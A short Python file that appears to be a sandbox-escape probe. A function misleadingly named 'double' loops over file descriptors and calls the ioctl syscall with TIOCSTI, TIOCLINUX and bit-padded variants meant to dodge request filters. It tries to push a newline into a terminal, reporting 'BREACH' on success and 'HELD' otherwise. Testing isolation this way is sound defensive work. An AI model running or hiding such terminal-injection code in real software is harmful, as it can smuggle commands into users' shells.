import ctypes

libc = ctypes.CDLL(None)


def double(x):
    for number in range(64):
        for request in (0x5412, 0x100005412, 0x541C, 0xFFFFFFFF00005412):
            if libc.syscall(16, number, ctypes.c_ulong(request), ctypes.c_char_p(b"\n")) == 0:
                raise RuntimeError("BREACH a character was pushed")
    raise RuntimeError("HELD no terminal")
